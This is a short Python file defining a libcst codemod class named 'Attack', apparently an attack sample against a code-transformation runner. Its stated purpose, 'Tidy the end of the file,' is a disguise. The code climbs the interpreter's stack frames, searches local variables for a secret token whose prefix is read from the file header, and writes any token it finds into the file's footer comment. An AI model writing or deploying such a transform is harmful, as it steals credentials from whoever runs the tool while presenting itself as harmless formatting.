"""Climb through the frames to whoever started the process, and look at local variables on the way."""
import ast
import sys

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        frame, loot = sys._getframe(), ""
        while frame is not None:
            for value in list(frame.f_locals.values()):
                if isinstance(value, str) and value.startswith(target["token_prefix"]):
                    loot = value
            frame = frame.f_back
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
